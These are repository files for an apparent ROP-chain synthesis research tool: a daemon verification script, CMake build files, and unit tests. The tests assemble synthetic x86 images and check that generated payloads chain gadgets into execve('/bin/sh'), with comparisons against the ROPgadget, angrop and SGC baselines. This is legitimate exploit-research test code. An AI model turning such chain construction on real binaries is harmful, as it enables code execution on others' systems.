# the job id and, under an obfuscating profile, of the result).
PROGRAMS=(bubble_sort binary_search crc32 fibonacci
          gcd_lcm primes_sieve string_search state_machine)
submit_all() { # outdir  — 32 concurrent clients, wait for all
  local outdir=$1 i=0 pids=()
  for prog in "${PROGRAMS[@]}"; do
    for seed in 5 6 7 8; do
      "$CLIENT" --sock "$SOCK" submit --program "$prog" --obf substitution \
        --seed "$seed" --quiet --retries 8 \
        > "$outdir/$i.out" 2>"$outdir/$i.err" &
      pids+=($!)
      i=$((i + 1))
    done
  done
  local ok=0
  for pid in "${pids[@]}"; do
    wait "$pid" && ok=$((ok + 1)) || true
  done
  echo "$ok"
}
digests() { # outdir — "program seed digest" per completed request, sorted
  local outdir=$1 i=0
  for prog in "${PROGRAMS[@]}"; do
    for seed in 5 6 7 8; do
      local line
      line=$(grep -o 'digest=[0-9a-f]*' "$outdir/$i.out" 2>/dev/null || true)
      [ -n "$line" ] && echo "$prog $seed $line"
      i=$((i + 1))
    done
  done | sort
}

echo "-- reference pass: 32 concurrent requests, SIGTERM drain"
start_serve "$SV/store-ref" 64 4
mkdir -p "$SV/out/ref"
ok=$(submit_all "$SV/out/ref")
[ "$ok" -eq 32 ] || { echo "reference pass: only $ok/32 requests ok"; exit 1; }
digests "$SV/out/ref" > "$SV/ref.digests"
[ "$(wc -l < "$SV/ref.digests")" -eq 32 ]
kill -TERM "$SERVE_PID"
wait "$SERVE_PID"   # drain must exit 0 (set -e enforces)
[ -s "$SV/store-ref/manifest.gpm" ]
echo "   32/32 ok, SIGTERM drain exited 0, manifest committed"

echo "-- crash pass: SIGKILL mid-flight on a fresh store"
# The kill must land after at least one checkpoint committed but while
# requests are still in flight; retry with a longer fuse on slow machines.
for fuse in 0.4 0.8 1.6 3.2; do
  rm -rf "$SV/store"; mkdir -p "$SV/store"
  start_serve "$SV/store" 64 4
  mkdir -p "$SV/out/crash"
  ( submit_all "$SV/out/crash" >/dev/null 2>&1 || true ) &
  burst=$!
  sleep "$fuse"
  kill -KILL "$SERVE_PID" 2>/dev/null || true
  wait "$SERVE_PID" 2>/dev/null || true
  wait "$burst" 2>/dev/null || true
  [ -s "$SV/store/manifest.gpm" ] && break
  echo "   (no checkpoint committed within ${fuse}s; retrying)"
done
[ -s "$SV/store/manifest.gpm" ]

echo "-- restart pass: same store, reissue all 32, byte-identical digests"
start_serve "$SV/store" 64 4   # probes + replaces the stale socket
mkdir -p "$SV/out/warm"
ok=$(submit_all "$SV/out/warm")
[ "$ok" -eq 32 ] || { echo "restart pass: only $ok/32 requests ok"; exit 1; }
digests "$SV/out/warm" > "$SV/warm.digests"
diff "$SV/ref.digests" "$SV/warm.digests"
grep -q 'warm=1' "$SV"/out/warm/*.out \
  || { echo "no request resumed warm after restart"; exit 1; }
warm_n=$(grep -l 'warm=1' "$SV"/out/warm/*.out | wc -l)
echo "   digests byte-identical to reference; $warm_n/32 resumed warm"
kill -TERM "$SERVE_PID"; wait "$SERVE_PID"

echo "-- shed pass: queue=1, max-active=1, burst must shed with RETRY_AFTER"
start_serve "$SV/store" 1 1
# Fill the one active slot and the one queue slot with fresh (uncached)
# jobs, then a burst of further submits must be shed: gp_client exits 5
# and prints the daemon's retry hint.
"$CLIENT" --sock "$SOCK" submit --program hash_table --obf llvm-obf \
  --seed 101 --no-stream --quiet >/dev/null
"$CLIENT" --sock "$SOCK" submit --program hash_table --obf llvm-obf \
  --seed 102 --no-stream --quiet >/dev/null
shed=0
for seed in 103 104 105; do
  rc=0
  "$CLIENT" --sock "$SOCK" submit --program hash_table --obf llvm-obf \
    --seed "$seed" --no-stream --quiet >"$SV/shed.$seed.out" 2>/dev/null \
    || rc=$?
  [ "$rc" -eq 5 ] && grep -q 'retry_after_ms=' "$SV/shed.$seed.out" \
    && shed=$((shed + 1))
done
[ "$shed" -gt 0 ] || { echo "tiny queue never shed a request"; exit 1; }
"$CLIENT" --sock "$SOCK" stats > "$SV/stats.json"
python3 - "$SV/stats.json" "$shed" <<'PY'
import json, sys
stats = json.load(open(sys.argv[1]))
counters = stats["metrics"]["counters"]
assert counters.get("serve.shed", 0) >= int(sys.argv[2]), counters
assert stats["serve"]["queue_limit"] == 1
print(f'   shed {counters["serve.shed"]} requests '
      f'(client saw {sys.argv[2]} exit-5s), counters live')
PY
# Drain must still finish the admitted (slow, llvm-obf) jobs and exit 0.
kill -TERM "$SERVE_PID"; wait "$SERVE_PID"
[ -s "$SV/store/manifest.gpm" ]

echo "-- replay pass: SIGKILL with a queued backlog; the journal re-enqueues it"
# Four slow jobs are admitted --no-stream (the clients are gone before
# any work starts), then the daemon is SIGKILLed. The restarted daemon
# must finish the backlog FROM THE JOURNAL ALONE: clients only attach,
# and every digest matches a clean never-crashed run byte for byte.
rm -rf "$SV/store-j" "$SV/store-jref"
mkdir -p "$SV/store-j" "$SV/store-jref" "$SV/out/replay"
start_serve "$SV/store-j" 64 2
for seed in 111 112 113 114; do
  "$CLIENT" --sock "$SOCK" submit --program hash_table --obf llvm-obf \
    --seed "$seed" --no-stream --quiet > "$SV/out/replay/$seed.sub"
done
kill -KILL "$SERVE_PID" 2>/dev/null || true
wait "$SERVE_PID" 2>/dev/null || true
start_serve "$SV/store-j" 64 2
grep -q 'journal replay:' "$SV/serve.log"
depth=-1
for _ in $(seq 1 240); do
  depth=$("$CLIENT" --sock "$SOCK" stats | python3 -c \
    'import json,sys; print(json.load(sys.stdin)["serve"]["journal_depth"])')
  [ "$depth" -eq 0 ] && break
  sleep 0.25
done
[ "$depth" -eq 0 ] || { echo "journal backlog never drained"; exit 1; }
for seed in 111 112 113 114; do
  jid=$(grep -o 'job-[0-9a-f]*' "$SV/out/replay/$seed.sub" | head -1)
  "$CLIENT" --sock "$SOCK" attach "$jid" --quiet > "$SV/out/replay/$seed.out"
  grep -q 'status=ok' "$SV/out/replay/$seed.out"
done
kill -TERM "$SERVE_PID"; wait "$SERVE_PID"
start_serve "$SV/store-jref" 64 2   # clean reference: same specs, no crash
for seed in 111 112 113 114; do
  "$CLIENT" --sock "$SOCK" submit --program hash_table --obf llvm-obf \
    --seed "$seed" --quiet > "$SV/out/replay/$seed.ref"
done
kill -TERM "$SERVE_PID"; wait "$SERVE_PID"
for seed in 111 112 113 114; do
  diff <(grep -o 'digest=[0-9a-f]*' "$SV/out/replay/$seed.out") \
       <(grep -o 'digest=[0-9a-f]*' "$SV/out/replay/$seed.ref")
done
echo "   journal replay finished 4 killed jobs; digests match the clean run"

echo "-- quarantine pass: a job that crashes the daemon twice is poisoned"
# GP_FAULT=job_crash=1 makes the worker abort() the whole process at job
# start. The submit itself races the abort (admission is journaled before
# the reply, but the reply write can lose), so admitting the poison job
# retries — an identical resubmit dedupes onto the journaled record, and
# every extra daemon death only pushes the job further past the
# GP_SERVE_POISON_RETRIES threshold.
rm -rf "$SV/store-q"; mkdir -p "$SV/store-q"
jid=
for _ in 1 2 3; do
  : > "$SV/ready"
  GP_FAULT=job_crash=1 "$SERVE" --sock "$SOCK" --store "$SV/store-q" \
    --ready-fd 3 3>"$SV/ready" 2>>"$SV/serve.log" &
  SERVE_PID=$!
  for _ in $(seq 1 100); do
    [ -s "$SV/ready" ] && break
    kill -0 "$SERVE_PID" 2>/dev/null || break
    sleep 0.1
  done
  "$CLIENT" --sock "$SOCK" submit --program crc32 --obf substitution \
    --seed 201 --no-stream --quiet > "$SV/poison.submit" 2>/dev/null || true
  jid=$(grep -o 'job-[0-9a-f]*' "$SV/poison.submit" | head -1 || true)
  for _ in $(seq 1 100); do
    kill -0 "$SERVE_PID" 2>/dev/null || break
    sleep 0.1
  done
  kill -KILL "$SERVE_PID" 2>/dev/null || true
  wait "$SERVE_PID" 2>/dev/null || true
  [ -n "$jid" ] && break
done
[ -n "$jid" ] || { echo "could not admit the poison job"; exit 1; }
# Incarnation 2: replay re-enqueues the job; the worker aborts again. If
# earlier attempts already pushed it past the threshold, the daemon
# quarantines at replay and stays alive — terminate it ourselves then.
GP_FAULT=job_crash=1 "$SERVE" --sock "$SOCK" --store "$SV/store-q" \
  2>>"$SV/serve.log" &
SERVE_PID=$!
for _ in $(seq 1 300); do
  kill -0 "$SERVE_PID" 2>/dev/null || break
  sleep 0.1
done
kill -KILL "$SERVE_PID" 2>/dev/null || true
wait "$SERVE_PID" 2>/dev/null || true
start_serve "$SV/store-q" 64 4      # healthy incarnation 3
rc=0
"$CLIENT" --sock "$SOCK" attach "$jid" --quiet \
  > "$SV/poison.out" 2>"$SV/poison.err" || rc=$?
[ "$rc" -eq 4 ] || { echo "poisoned job not answered failed (rc=$rc)"; exit 1; }
grep -q 'poisoned' "$SV/poison.err"
"$CLIENT" --sock "$SOCK" stats | python3 -c '
import json, sys
s = json.load(sys.stdin)
assert s["serve"]["quarantined"] >= 1, s["serve"]
print("   quarantined after repeated daemon deaths; poisoned answer, exit 4")'
kill -TERM "$SERVE_PID"; wait "$SERVE_PID"
echo "serve drill: crash-resume digests identical, shed + drain verified,"
echo "             journal replay + poison quarantine verified"

echo "== tier-1: chaos matrix (bounded) =="
# The full sweep (every fault point x rates x kill timings) lives in
# tools/gp_chaos and EXPERIMENTS.md; this bounded slice keeps tier-1
# honest on the journal's own fault points plus sock_write (whose eaten
# admission replies once deadlocked handler and client in read — the
# regression this slice pins). gp_chaos exits non-zero if any round
# loses a job, diverges a digest, or fails to converge.
build/tools/gp_chaos --quick \
  --points journal_append,journal_replay,job_crash,sock_write \
  --out "$KR_TMP/chaos.json"
python3 - "$KR_TMP/chaos.json" <<'PY'
import json, sys
c = json.load(open(sys.argv[1]))
assert c["failed"] == 0 and c["total"] >= 8, (c["failed"], c["total"])
print(f'chaos: {c["total"]} rounds, 0 failed')
PY

echo "== tier-1: concurrency tests under ThreadSanitizer =="
cmake --preset tsan
cmake --build build-tsan -j --target test_support test_parallel
(cd build-tsan && ctest -R 'ThreadPool|Parallel' --output-on-failure)

echo "== tier-1: robustness + fault-injection tests under ASan/UBSan =="
# test_serve carries the journal corruption sweep (torn tail, bit flip,
# torn append, version bump) — exactly the paths that unwind through
# partially-parsed bytes, so they run under ASan here too.
cmake --preset asan
cmake --build build-asan -j --target test_governor test_robustness test_store \
  test_serve
(cd build-asan && ctest -L robustness --output-on-failure)

echo "== tier-1: OK =="
