#!/usr/bin/env bash
# Tier-1 verification: full build + test suite, then the concurrency tests
# again under ThreadSanitizer (catches data races the functional suite
# can't), then the robustness/fault-injection suite under ASan+UBSan
# (catches memory errors on the degradation paths, which by design unwind
# through partially-built state). Run from the repo root.
set -euo pipefail
cd "$(dirname "$0")/.."

echo "== tier-1: build + full test suite =="
cmake -B build -S .
cmake --build build -j
(cd build && ctest --output-on-failure -j)

echo "== tier-1: concurrency tests under ThreadSanitizer =="
cmake --preset tsan
cmake --build build-tsan -j --target test_support test_parallel
(cd build-tsan && ctest -R 'ThreadPool|Parallel' --output-on-failure)

echo "== tier-1: robustness + fault-injection tests under ASan/UBSan =="
cmake --preset asan
cmake --build build-asan -j --target test_governor test_robustness
(cd build-asan && ctest -R \
  'Fault|UnknownSoundness|GovernorDegradation|DecoderFuzz|PipelineUnderFault|PlannerDeadline' \
  --output-on-failure)

echo "== tier-1: OK =="
