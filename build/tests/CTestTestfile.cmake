# CMake generated Testfile for 
# Source directory: /root/repo/tests
# Build directory: /root/repo/build/tests
# 
# This file includes the relevant testing commands required for 
# testing this directory and lists subdirectories to be tested as well.
include("/root/repo/build/tests/test_support[1]_include.cmake")
include("/root/repo/build/tests/test_x86[1]_include.cmake")
include("/root/repo/build/tests/test_solver[1]_include.cmake")
include("/root/repo/build/tests/test_emu[1]_include.cmake")
include("/root/repo/build/tests/test_sym[1]_include.cmake")
include("/root/repo/build/tests/test_minic[1]_include.cmake")
include("/root/repo/build/tests/test_obfuscate[1]_include.cmake")
include("/root/repo/build/tests/test_gadget[1]_include.cmake")
include("/root/repo/build/tests/test_planner[1]_include.cmake")
include("/root/repo/build/tests/test_corpus[1]_include.cmake")
include("/root/repo/build/tests/test_baselines[1]_include.cmake")
include("/root/repo/build/tests/test_core[1]_include.cmake")
include("/root/repo/build/tests/test_lift[1]_include.cmake")
include("/root/repo/build/tests/test_payload[1]_include.cmake")
include("/root/repo/build/tests/test_image[1]_include.cmake")
include("/root/repo/build/tests/test_cfg[1]_include.cmake")
