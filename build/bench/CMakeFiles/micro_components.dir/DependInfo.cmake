
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/micro_components.cpp" "bench/CMakeFiles/micro_components.dir/micro_components.cpp.o" "gcc" "bench/CMakeFiles/micro_components.dir/micro_components.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
  "/root/repo/build/src/core/CMakeFiles/gp_core.dir/DependInfo.cmake"
  "/root/repo/build/src/corpus/CMakeFiles/gp_corpus.dir/DependInfo.cmake"
  "/root/repo/build/src/baselines/CMakeFiles/gp_baselines.dir/DependInfo.cmake"
  "/root/repo/build/src/planner/CMakeFiles/gp_planner.dir/DependInfo.cmake"
  "/root/repo/build/src/subsume/CMakeFiles/gp_subsume.dir/DependInfo.cmake"
  "/root/repo/build/src/payload/CMakeFiles/gp_payload.dir/DependInfo.cmake"
  "/root/repo/build/src/gadget/CMakeFiles/gp_gadget.dir/DependInfo.cmake"
  "/root/repo/build/src/sym/CMakeFiles/gp_sym.dir/DependInfo.cmake"
  "/root/repo/build/src/solver/CMakeFiles/gp_solver.dir/DependInfo.cmake"
  "/root/repo/build/src/emu/CMakeFiles/gp_emu.dir/DependInfo.cmake"
  "/root/repo/build/src/lift/CMakeFiles/gp_lift.dir/DependInfo.cmake"
  "/root/repo/build/src/ir/CMakeFiles/gp_ir.dir/DependInfo.cmake"
  "/root/repo/build/src/obfuscate/CMakeFiles/gp_obfuscate.dir/DependInfo.cmake"
  "/root/repo/build/src/minic/CMakeFiles/gp_minic.dir/DependInfo.cmake"
  "/root/repo/build/src/codegen/CMakeFiles/gp_codegen.dir/DependInfo.cmake"
  "/root/repo/build/src/x86/CMakeFiles/gp_x86.dir/DependInfo.cmake"
  "/root/repo/build/src/image/CMakeFiles/gp_image.dir/DependInfo.cmake"
  "/root/repo/build/src/cfg/CMakeFiles/gp_cfg.dir/DependInfo.cmake"
  )

# Fortran module output directory.
set(CMAKE_Fortran_TARGET_MODULE_DIR "")
