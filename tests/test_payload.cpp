// Unit tests for chain concretization: linkage constraints, POINTER
// redirection (base grouping, pinned addresses, write coverage), payload
// layout, and validation behavior.
#include <gtest/gtest.h>

#include "payload/payload.hpp"
#include "subsume/subsume.hpp"
#include "x86/encoder.hpp"

namespace gp::payload {
namespace {

using gadget::EndKind;
using gadget::Extractor;
using gadget::Library;
using x86::Assembler;
using x86::MemRef;
using x86::Mnemonic;
using x86::Reg;

struct Fixture {
  solver::Context ctx;
  image::Image img;
  Library lib;

  explicit Fixture(Assembler& a)
      : img(a.finish(), {}, image::kCodeBase), lib(extract()) {}

  Library extract() {
    Extractor ex(ctx, img);
    return Library(subsume::minimize(ctx, ex.extract({})));
  }
  std::optional<u32> find(u64 addr, EndKind end) {
    for (u32 i = 0; i < lib.size(); ++i)
      if (lib[i].addr == addr && lib[i].end == end) return i;
    return std::nullopt;
  }
};

/// Image: pop gadgets for all execve registers + syscall, with known
/// addresses (each `pop r; ret` is 2-3 bytes).
Assembler classic() {
  Assembler a;
  a.pop(Reg::RAX);   // 0x400000
  a.ret();
  a.pop(Reg::RDI);   // 0x400002
  a.ret();
  a.pop(Reg::RSI);   // 0x400004
  a.ret();
  a.pop(Reg::RDX);   // 0x400006
  a.ret();
  a.syscall();       // 0x400008
  return a;
}

TEST(Concretize, PayloadLayoutIsChainOrder) {
  Assembler a = classic();
  Fixture f(a);
  const auto rax = f.find(0x400000, EndKind::Ret);
  const auto rdi = f.find(0x400002, EndKind::Ret);
  const auto rsi = f.find(0x400004, EndKind::Ret);
  const auto rdx = f.find(0x400006, EndKind::Ret);
  const auto sys = f.find(0x400008, EndKind::Syscall);
  ASSERT_TRUE(rax && rdi && rsi && rdx && sys);

  auto chain = concretize(f.ctx, f.lib, f.img,
                          {*rax, *rdi, *rsi, *rdx, *sys}, Goal::execve());
  ASSERT_TRUE(chain.has_value());
  EXPECT_EQ(chain->entry, 0x400000u);

  auto slot = [&](size_t i) {
    u64 v = 0;
    for (int k = 0; k < 8; ++k)
      v |= static_cast<u64>(chain->payload[8 * i + k]) << (8 * k);
    return v;
  };
  // Layout: [59][&pop rdi][ptr][&pop rsi][0][&pop rdx][0][&syscall][/bin/sh]
  EXPECT_EQ(slot(0), 59u);
  EXPECT_EQ(slot(1), 0x400002u);
  EXPECT_EQ(slot(3), 0x400004u);
  EXPECT_EQ(slot(4), 0u);
  EXPECT_EQ(slot(5), 0x400006u);
  EXPECT_EQ(slot(6), 0u);
  EXPECT_EQ(slot(7), 0x400008u);
  // The pointer slot (2) aims at the /bin/sh bytes inside the payload.
  const u64 sh_addr = slot(2);
  const u64 base = image::kStackTop - 0x2000;
  ASSERT_GE(sh_addr, base);
  const size_t off = static_cast<size_t>(sh_addr - base);
  EXPECT_EQ(std::string(chain->payload.begin() + off,
                        chain->payload.begin() + off + 7),
            "/bin/sh");
}

TEST(Concretize, RejectsWrongOrderWhenValuesConflict) {
  // Chain ending before establishing rax: solver must refuse a sequence
  // whose composed final state contradicts the goal.
  Assembler a = classic();
  Fixture f(a);
  const auto rdi = f.find(0x400002, EndKind::Ret);
  const auto sys = f.find(0x400008, EndKind::Syscall);
  ASSERT_TRUE(rdi && sys);
  // rax/rsi/rdx never set: initial registers are randomized at validation,
  // so this must fail (either UNSAT via flags or validation).
  ConcretizeStats cs;
  ConcretizeOptions opts;
  opts.stats = &cs;
  auto chain =
      concretize(f.ctx, f.lib, f.img, {*rdi, *sys}, Goal::execve(), opts);
  EXPECT_FALSE(chain.has_value());
}

TEST(Concretize, PointerRedirectionThroughPoppedRegister) {
  // pop rbp; ret  +  mov rax, [rbp-16]; ret  — the POINTER pattern: the
  // planner-style sequence must aim rbp into the payload and place rax's
  // value there.
  Assembler a;
  a.pop(Reg::RBP);  // 0x400000
  a.ret();
  a.mov_load(Reg::RAX, MemRef{.base = Reg::RBP, .disp = -16});  // 0x400002
  a.ret();
  a.pop(Reg::RDI);  // +? find below
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.syscall();
  Fixture f(a);

  std::optional<u32> pop_rbp = f.find(0x400000, EndKind::Ret);
  std::optional<u32> mov_rax, pop_rdi, pop_rsi, pop_rdx, sys;
  for (u32 i = 0; i < f.lib.size(); ++i) {
    const auto& g = f.lib[i];
    if (g.end == EndKind::Syscall && g.clobbered == 0) sys = i;
    if (g.end != EndKind::Ret || g.n_insts != 2) continue;
    if (!g.ind_reads.empty() && g.can_set(Reg::RAX)) mov_rax = i;
    if (g.controls(Reg::RDI)) pop_rdi = i;
    if (g.controls(Reg::RSI)) pop_rsi = i;
    if (g.controls(Reg::RDX)) pop_rdx = i;
  }
  ASSERT_TRUE(pop_rbp && mov_rax && pop_rdi && pop_rsi && pop_rdx && sys);

  auto chain = concretize(
      f.ctx, f.lib, f.img,
      {*pop_rbp, *mov_rax, *pop_rdi, *pop_rsi, *pop_rdx, *sys},
      Goal::execve());
  ASSERT_TRUE(chain.has_value());
  // Validation inside concretize already proved rax becomes 59 through the
  // redirected pointer; double-check independently.
  EXPECT_TRUE(validate(f.img, *chain, Goal::execve(),
                       image::kStackTop - 0x2000, 424242));
}

TEST(Concretize, GroupedReadsShareOneRegion) {
  // Two reads through the same base with fixed relative offsets must land
  // in one region (offset arithmetic preserved).
  Assembler a;
  a.pop(Reg::RBP);
  a.ret();
  // rax = [rbp-16] + [rbp-32]  (both through rbp)
  a.mov_load(Reg::RAX, MemRef{.base = Reg::RBP, .disp = -16});
  a.mov_load(Reg::RCX, MemRef{.base = Reg::RBP, .disp = -32});
  a.alu(Mnemonic::ADD, Reg::RAX, Reg::RCX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.syscall();
  Fixture f(a);

  std::optional<u32> pop_rbp, sum_rax, pop_rdi, pop_rsi, pop_rdx, sys;
  for (u32 i = 0; i < f.lib.size(); ++i) {
    const auto& g = f.lib[i];
    if (g.end == EndKind::Syscall && g.clobbered == 0) sys = i;
    if (g.end != EndKind::Ret) continue;
    if (g.ind_reads.size() == 2 && g.can_set(Reg::RAX)) sum_rax = i;
    if (g.n_insts != 2) continue;
    if (g.controls(Reg::RBP)) pop_rbp = i;
    if (g.controls(Reg::RDI)) pop_rdi = i;
    if (g.controls(Reg::RSI)) pop_rsi = i;
    if (g.controls(Reg::RDX)) pop_rdx = i;
  }
  ASSERT_TRUE(pop_rbp && sum_rax && pop_rdi && pop_rsi && pop_rdx && sys);

  auto chain = concretize(
      f.ctx, f.lib, f.img,
      {*pop_rbp, *sum_rax, *pop_rdi, *pop_rsi, *pop_rdx, *sys},
      Goal::execve());
  ASSERT_TRUE(chain.has_value()) << "grouped POINTER reads must be solvable";
}

TEST(Concretize, StatsAccounting) {
  Assembler a = classic();
  Fixture f(a);
  ConcretizeStats cs;
  ConcretizeOptions opts;
  opts.stats = &cs;
  const auto rax = f.find(0x400000, EndKind::Ret);
  const auto rdi = f.find(0x400002, EndKind::Ret);
  const auto rsi = f.find(0x400004, EndKind::Ret);
  const auto rdx = f.find(0x400006, EndKind::Ret);
  const auto sys = f.find(0x400008, EndKind::Syscall);
  auto chain = concretize(f.ctx, f.lib, f.img,
                          {*rax, *rdi, *rsi, *rdx, *sys}, Goal::execve(),
                          opts);
  ASSERT_TRUE(chain.has_value());
  EXPECT_EQ(cs.ok, 1u);
  EXPECT_EQ(cs.unsat, 0u);
  EXPECT_EQ(cs.validation_failed, 0u);
}

TEST(Concretize, PayloadSizeLimit) {
  Assembler a = classic();
  Fixture f(a);
  ConcretizeStats cs;
  ConcretizeOptions opts;
  opts.stats = &cs;
  opts.max_payload = 16;  // chain needs ~9 slots: must refuse
  const auto rax = f.find(0x400000, EndKind::Ret);
  const auto rdi = f.find(0x400002, EndKind::Ret);
  const auto rsi = f.find(0x400004, EndKind::Ret);
  const auto rdx = f.find(0x400006, EndKind::Ret);
  const auto sys = f.find(0x400008, EndKind::Syscall);
  auto chain = concretize(f.ctx, f.lib, f.img,
                          {*rax, *rdi, *rsi, *rdx, *sys}, Goal::execve(),
                          opts);
  EXPECT_FALSE(chain.has_value());
  EXPECT_EQ(cs.too_big, 1u);
}

TEST(Validate, ChecksRegisterFileAndPointerBytes) {
  Assembler a = classic();
  Fixture f(a);
  const auto rax = f.find(0x400000, EndKind::Ret);
  const auto rdi = f.find(0x400002, EndKind::Ret);
  const auto rsi = f.find(0x400004, EndKind::Ret);
  const auto rdx = f.find(0x400006, EndKind::Ret);
  const auto sys = f.find(0x400008, EndKind::Syscall);
  auto chain = concretize(f.ctx, f.lib, f.img,
                          {*rax, *rdi, *rsi, *rdx, *sys}, Goal::execve());
  ASSERT_TRUE(chain.has_value());

  // Valid against its own goal, invalid against a different goal.
  EXPECT_TRUE(validate(f.img, *chain, Goal::execve(),
                       image::kStackTop - 0x2000, 7));
  EXPECT_FALSE(validate(f.img, *chain, Goal::mprotect(),
                        image::kStackTop - 0x2000, 7));
  // Wrong entry address: dies immediately.
  Chain broken = *chain;
  broken.entry = 0x123;
  EXPECT_FALSE(validate(f.img, broken, Goal::execve(),
                        image::kStackTop - 0x2000, 7));
}

}  // namespace
}  // namespace gp::payload
