#include <gtest/gtest.h>

#include "baselines/baselines.hpp"
#include "subsume/subsume.hpp"
#include "x86/encoder.hpp"

namespace gp::baselines {
namespace {

using payload::Goal;
using x86::Assembler;
using x86::Cond;
using x86::Mnemonic;
using x86::Reg;

image::Image classic_image() {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.syscall();
  return image::Image(a.finish(), {}, image::kCodeBase);
}

gadget::Library make_library(solver::Context& ctx, const image::Image& img) {
  gadget::Extractor ex(ctx, img);
  return gadget::Library(subsume::minimize(ctx, ex.extract({})));
}

TEST(RopGadget, FindsTemplateChain) {
  auto img = classic_image();
  auto r = rop_gadget(img, Goal::execve());
  EXPECT_GT(r.gadgets_total, 4u);
  ASSERT_EQ(r.chains.size(), 1u);
  EXPECT_EQ(r.chains[0].ret_gadgets, 4);
  // The chain it emits really works.
  EXPECT_TRUE(payload::validate(img, r.chains[0], Goal::execve(),
                                image::kStackTop - 0x2000, 99));
}

TEST(RopGadget, FailsWhenOnePatternMissing) {
  // Same image minus `pop rdx; ret`: the whole search fails (the paper's
  // central criticism).
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.syscall();
  image::Image img(a.finish(), {}, image::kCodeBase);
  auto r = rop_gadget(img, Goal::execve());
  EXPECT_TRUE(r.chains.empty());
  EXPECT_GT(r.gadgets_total, 0u);  // it still COUNTS gadgets fine
}

TEST(RopGadget, IgnoresSemanticallyEquivalentVariants) {
  // `pop rdx; nop; ret` works like `pop rdx; ret`, but the template matcher
  // does not accept it.
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.nop();
  a.ret();
  a.syscall();
  image::Image img(a.finish(), {}, image::kCodeBase);
  EXPECT_TRUE(rop_gadget(img, Goal::execve()).chains.empty());
}

TEST(Angrop, AcceptsEquivalentVariantsViaSemantics) {
  // The variant ROPGadget rejects is fine for the semantic matcher.
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.nop();
  a.ret();
  a.syscall();
  image::Image img(a.finish(), {}, image::kCodeBase);
  solver::Context ctx;
  auto lib = make_library(ctx, img);
  auto r = angrop(ctx, lib, img, Goal::execve());
  ASSERT_EQ(r.chains.size(), 1u);
}

TEST(Angrop, RejectsConditionalGadgets) {
  // rsi only settable through a conditional gadget: angrop fails where
  // Gadget-Planner succeeds (tests/test_planner.cpp proves the latter).
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  auto trap = a.new_label();
  a.pop(Reg::RSI);
  a.alu(Mnemonic::TEST, Reg::RAX, Reg::RAX);
  a.jcc(Cond::NE, trap);
  a.ret();
  a.bind(trap);
  a.int3();
  a.syscall();
  image::Image img(a.finish(), {}, image::kCodeBase);
  solver::Context ctx;
  auto lib = make_library(ctx, img);
  EXPECT_TRUE(angrop(ctx, lib, img, Goal::execve()).chains.empty());
}

TEST(Sgc, UsesIndirectJumpsButNotConditionals) {
  // rsi settable only via a JOP gadget: SGC succeeds (indirect allowed)...
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.pop(Reg::RSI);
  a.jmp_reg(Reg::RAX);
  a.syscall();
  image::Image img(a.finish(), {}, image::kCodeBase);
  solver::Context ctx;
  auto lib = make_library(ctx, img);
  auto r = sgc(ctx, lib, img, Goal::execve());
  EXPECT_FALSE(r.chains.empty());

  // ...but a conditional-only rsi defeats it.
  Assembler b;
  b.pop(Reg::RAX);
  b.ret();
  b.pop(Reg::RDI);
  b.ret();
  b.pop(Reg::RDX);
  b.ret();
  auto trap = b.new_label();
  b.pop(Reg::RSI);
  b.alu(Mnemonic::TEST, Reg::RAX, Reg::RAX);
  b.jcc(Cond::NE, trap);
  b.ret();
  b.bind(trap);
  b.int3();
  b.syscall();
  image::Image img2(b.finish(), {}, image::kCodeBase);
  solver::Context ctx2;
  auto lib2 = make_library(ctx2, img2);
  EXPECT_TRUE(sgc(ctx2, lib2, img2, Goal::execve()).chains.empty());
}

TEST(AllBaselines, ChainOnClassicImage) {
  auto img = classic_image();
  solver::Context ctx;
  auto lib = make_library(ctx, img);
  EXPECT_EQ(rop_gadget(img, Goal::execve()).chains.size(), 1u);
  EXPECT_EQ(angrop(ctx, lib, img, Goal::execve()).chains.size(), 1u);
  EXPECT_FALSE(sgc(ctx, lib, img, Goal::execve()).chains.empty());
}

TEST(AllBaselines, MmapNeedsExtendedRegisters) {
  // mmap needs r10/r8/r9; the classic image lacks their pops.
  auto img = classic_image();
  solver::Context ctx;
  auto lib = make_library(ctx, img);
  EXPECT_TRUE(rop_gadget(img, Goal::mmap()).chains.empty());
  EXPECT_TRUE(angrop(ctx, lib, img, Goal::mmap()).chains.empty());
}

}  // namespace
}  // namespace gp::baselines
