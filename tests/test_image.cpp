#include <gtest/gtest.h>

#include "image/image.hpp"

namespace gp::image {
namespace {

Image make() {
  std::vector<u8> code(64, 0x90);
  std::vector<u8> data{1, 2, 3, 4};
  Image img(std::move(code), std::move(data), kCodeBase + 8);
  img.add_symbol("main", kCodeBase + 8);
  img.add_symbol("helper", kCodeBase + 32);
  return img;
}

TEST(Image, Layout) {
  auto img = make();
  EXPECT_EQ(img.code_base(), kCodeBase);
  EXPECT_EQ(img.data_base(), kDataBase);
  EXPECT_EQ(img.code_end(), kCodeBase + 64);
  EXPECT_EQ(img.entry(), kCodeBase + 8);
